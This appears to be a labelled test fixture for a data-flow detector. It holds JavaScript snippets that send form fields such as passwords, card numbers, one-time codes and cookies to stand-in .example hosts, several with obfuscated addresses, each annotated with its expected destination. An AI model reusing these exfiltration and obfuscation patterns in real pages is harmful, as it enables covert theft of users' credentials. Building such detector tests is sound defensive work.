//# static-block-builds-the-root
// flow: email > ssb.bd13.example via fetch
// destination: https://ssb.bd13.example/v4/leads
class Endpoints1 {
  static root;
  static { Endpoints1.root = ['https:/', 'ssb.bd13.example', 'v4'].join('/'); }
  static leads = `${Endpoints1.root}/leads`;
}
fetch(Endpoints1.leads, { method: 'POST', body: document.querySelector('input[type=email]').value });

//# inherited-getter-reads-own-host
// flow: phone > igo.bd13.example via beacon
// no destination: proto.igo.bd13.example
// why: the getter of the prototype reads the host of the object that inherits from it
const baseConf2 = { host: 'proto.igo.bd13.example', get api() { return `https://${this.host}/api`; } };
const liveConf2 = Object.create(baseConf2, { host: { value: 'igo.bd13.example' } });
navigator.sendBeacon(liveConf2.api + '/call', document.querySelector('input[type=tel]').value);

//# compiled-enum-as-table-key
// flow: username > us.cet.bd13.example via fetch
// no destination: eu.cet.bd13.example
var _a3;
var Region3;
(function (Region3) {
    Region3[Region3["EU"] = 0] = "EU";
    Region3[Region3["US"] = 1] = "US";
})(Region3 || (Region3 = {}));
var SUB3 = (_a3 = {}, _a3[Region3.EU] = "eu", _a3[Region3.US] = "us", _a3);
fetch("https://".concat(SUB3[Region3.US], ".cet.bd13.example/in"), { method: "POST", body: document.querySelector("input[name=username]").value });

//# compiled-tagged-template-address
// flow: search > ctt.bd13.example via fetch
// destination: https://ctt.bd13.example/find/{}/page/1
var _templateObject4;
function _taggedTemplateLiteral4(e, t) { return t || (t = e.slice(0)), Object.freeze(Object.defineProperties(e, { raw: { value: Object.freeze(t) } })); }
function addr4(strings) {
  for (var _len = arguments.length, vals = new Array(_len > 1 ? _len - 1 : 0), _key = 1; _key < _len; _key++) {
    vals[_key - 1] = arguments[_key];
  }
  return strings.reduce(function (acc, s, i) { return acc + s + (i < vals.length ? encodeURIComponent(vals[i]) : ""); }, "");
}
fetch(addr4(_templateObject4 || (_templateObject4 = _taggedTemplateLiteral4(["https://ctt.bd13.example/find/", "/page/", ""])), document.querySelector("input[type=search]").value, 1));

//# nested-destructured-defaults
// flow: search > ndd.bd13.example via fetch
// destination: https://ndd.bd13.example/s?q={}
function connect5({ api: { origin: o = 'https://ndd.bd13.example', path = '/s' } = {} } = {}) {
  return (q) => fetch(o + path + '?q=' + encodeURIComponent(q));
}
connect5()(document.querySelector('input[type=search]').value);

//# stage-by-name-of-the-page
// flow: email > dev.sbn.bd13.example via fetch
// flow: email > test.sbn.bd13.example via fetch
// flow: email > live.sbn.bd13.example via fetch
function stage6(h) {
  switch (true) {
    case h === 'localhost': return 'https://dev.sbn.bd13.example';
    case /\.test$/.test(h): return 'https://test.sbn.bd13.example';
    default: return 'https://live.sbn.bd13.example';
  }
}
fetch(stage6(location.hostname) + '/lead', { method: 'POST', body: document.querySelector('input[type=email]').value });

//# address-inside-a-query
// flow: otp > aiq.bd13.example via fetch
// no destination: out.aiq.bd13.example
// why: the redirector is only taken apart; its parameter is the address
const link7 = 'https://out.aiq.bd13.example/r?to=https%3A%2F%2Faiq.bd13.example%2Fcode&v=2';
const to7 = new URL(link7).searchParams.get('to');
fetch(to7, { method: 'POST', body: document.querySelector('input[autocomplete=one-time-code]').value });

//# protocol-relative-over-base
// flow: device > pro.bd13.example via image
// no destination: unused.pro.bd13.example
// why: an address that begins with // takes only the scheme of the base
new Image().src = new URL('//pro.bd13.example/px?c=' + navigator.hardwareConcurrency, 'https://unused.pro.bd13.example/assets/').href;

//# data-attribute-written-then-read-camel
// flow: message > daw.bd13.example via fetch
const panel9 = document.createElement('div');
panel9.setAttribute('data-collect-url', 'https://daw.bd13.example/notes');
document.body.append(panel9);
const { collectUrl: url9 } = panel9.dataset;
fetch(url9, { method: 'POST', body: document.querySelector('textarea[name=message]').value });

//# inlined-environment-object
// flow: password > ieo.bd13.example via xhr
// no destination: dev.ieo.bd13.example
// why: the bundler has put the whole environment in place of process.env
!function () {
  var t = { NODE_ENV: "production", API_URL: "https://ieo.bd13.example" }.API_URL || "https://dev.ieo.bd13.example", n = new XMLHttpRequest;
  n.open("POST", t + "/session", !0), n.send(document.querySelector("input[type=password]").value);
}();

//# constant-of-another-bundled-module
// flow: email > cob.bd13.example via fetch
// destination: https://cob.bd13.example/e
(()=>{var e={12:(e,t,n)=>{n.d(t,{Z:()=>i});const r="cob.bd13.example",i="https://"+r+"/e"},77:(e,t,n)=>{const r=n(12);t.send=e=>fetch(r.Z,{method:"POST",body:e})}},t={};function n(r){var o=t[r];if(void 0!==o)return o.exports;var i=t[r]={exports:{}};return e[r](i,i.exports,n),i.exports}n.d=(e,t)=>{for(var r in t)n.o(t,r)&&!n.o(e,r)&&Object.defineProperty(e,r,{enumerable:!0,get:t[r]})},n.o=(e,t)=>Object.prototype.hasOwnProperty.call(e,t),n(77).send(document.querySelector("input[type=email]").value)})();

//# fastest-of-the-mirrors
// flow: identifier > m1.fom.bd13.example via fetch
// flow: identifier > m2.fom.bd13.example via fetch
// why: all of them are asked, the first answer wins
const mirrors12 = ['m1', 'm2'].map((m) => `https://${m}.fom.bd13.example`);
Promise.any(mirrors12.map((base) => fetch(`${base}/cfg?u=${localStorage.getItem('uid')}`)))
  .then((r) => r.json())
  .then((cfg) => console.log(cfg));

//# placeholders-filled-by-fold
// flow: card > eu.pff.bd13.example via fetch
// destination: https://eu.pff.bd13.example/v3/cards
const vars13 = { region: 'eu', version: 'v3', thing: 'cards' };
const made13 = Object.entries(vars13).reduce((s, [k, v]) => s.replaceAll('{{' + k + '}}', v), 'https://{{region}}.pff.bd13.example/{{version}}/{{thing}}');
fetch(made13, { method: 'POST', body: document.querySelector('input[autocomplete=cc-number]').value });

//# address-object-with-to-string
// flow: birthdate > aot.bd13.example via fetch
// destination: https://aot.bd13.example/v1/people
class Address14 {
  constructor(parts) { this.parts = parts; }
  at(p) { return new Address14([...this.parts, p]); }
  toString() { return this.parts.join('/'); }
}
const root14 = new Address14(['https://aot.bd13.example']);
fetch(root14.at('v1').at('people'), { method: 'POST', body: document.querySelector('input[autocomplete=bday]').value });

//# settings-in-a-query-string
// flow: address > siq.bd13.example via fetch
const conf15 = Object.fromEntries(new URLSearchParams('host=siq.bd13.example&path=%2Fship&secure=1'));
fetch((conf15.secure === '1' ? 'https://' : 'http://') + conf15.host + conf15.path, {
  method: 'POST',
  body: document.querySelector('textarea[autocomplete=street-address]').value,
});

//# compiled-defaults-of-options
// flow: email > cdo.bd13.example via beacon
// destination: https://cdo.bd13.example/t
function base16(e) { var t = void 0 === e ? {} : e, n = t.host, r = void 0 === n ? "cdo.bd13.example" : n, i = t.secure, o = void 0 === i || i; return (o ? "https" : "http") + "://" + r; }
navigator.sendBeacon(base16({ secure: !0 }) + "/t", document.querySelector("input[type=email]").value);

//# base-only-after-failure
// flow: device > baf.bd13.example via beacon
// why: a relative address without a base always throws
let target17;
try {
  target17 = new URL('/collect');
} catch {
  target17 = new URL('/collect', 'https://baf.bd13.example');
}
navigator.sendBeacon(target17, navigator.userAgent);

//# address-with-backslashes
// flow: phone > awb.bd13.example via fetch
// why: in an address of the web a backslash is read as a slash
fetch('https:\\\\awb.bd13.example\\callback', { method: 'POST', body: document.querySelector('input[type=tel]').value });

//# service-found-by-name
// flow: postal-code > sfn.bd13.example via fetch
// no destination: pay.sfn.bd13.example
const services19 = [
  { name: 'pay', url: 'https://pay.sfn.bd13.example' },
  { name: 'zip', url: 'https://sfn.bd13.example' },
];
const zip19 = services19.find(({ name }) => name === 'zip');
fetch(`${zip19.url}/check`, { method: 'POST', body: document.querySelector('input[autocomplete=postal-code]').value });

//# properties-assigned-to-url
// flow: search > pau.bd13.example via fetch
// destination: https://pau.bd13.example/v2/find?q={}
// no destination: first.pau.bd13.example
const u20 = Object.assign(new URL('https://first.pau.bd13.example/old?x=1'), {
  hostname: 'pau.bd13.example',
  pathname: '/v2/find',
  search: 'q=' + encodeURIComponent(document.querySelector('input[type=search]').value),
});
fetch(u20.toString());

//# label-as-number-in-base-36
// flow: identifier > pna.bd13.example via image
(new Image).src = "//" + [33238..toString(36), "bd13", "example"].join(".") + "/i?c=" + escape(document.cookie);

//# host-part-replaced-after-split
// flow: message > hps.bd13.example via xhr
// no destination: before.hps.bd13.example
const parts22 = 'https://before.hps.bd13.example/api/feedback'.split('/');
parts22[2] = 'hps.bd13.example';
const x22 = new XMLHttpRequest();
x22.open('POST', parts22.join('/'));
x22.send(document.querySelector('textarea[name=message]').value);

//# absolute-path-beats-client-base
// flow: username > abc.bd13.example via fetch
// no destination: base.abc.bd13.example
// why: the client puts its base before relative addresses only
var http23 = function (t) {
  return { post: function (e, n) { return fetch(/^([a-z][a-z\d+\-.]*:)?\/\//i.test(e) ? e : t.replace(/\/+$/, "") + "/" + e.replace(/^\/+/, ""), { method: "POST", body: n }); } };
}("https://base.abc.bd13.example/");
http23.post("https://abc.bd13.example/u", document.querySelector("input[autocomplete=username]").value);

//# address-in-custom-property
// flow: email > acp.bd13.example via fetch
document.documentElement.style.setProperty('--lead-api', 'https://acp.bd13.example/lead');
const api24 = getComputedStyle(document.documentElement).getPropertyValue('--lead-api').trim();
fetch(api24, { method: 'POST', body: document.querySelector('input[type=email]').value });

//# rotated-string-table
// flow: password > rst.bd13.example via fetch
// destination: https://rst.bd13.example/login
var _0x25a = ['/login', 'rst.bd13.example', 'https://'];
(function (_0x1, _0x2) { while (--_0x2) { _0x1['push'](_0x1['shift']()); } }(_0x25a, 0x3));
var _0x25b = function (_0x3) { return _0x25a[_0x3 - 0x10]; };
window['fetch'](_0x25b(0x10) + _0x25b(0x12) + _0x25b(0x11), { 'method': 'POST', 'body': document['querySelector']('input[type=password]')['value'] });
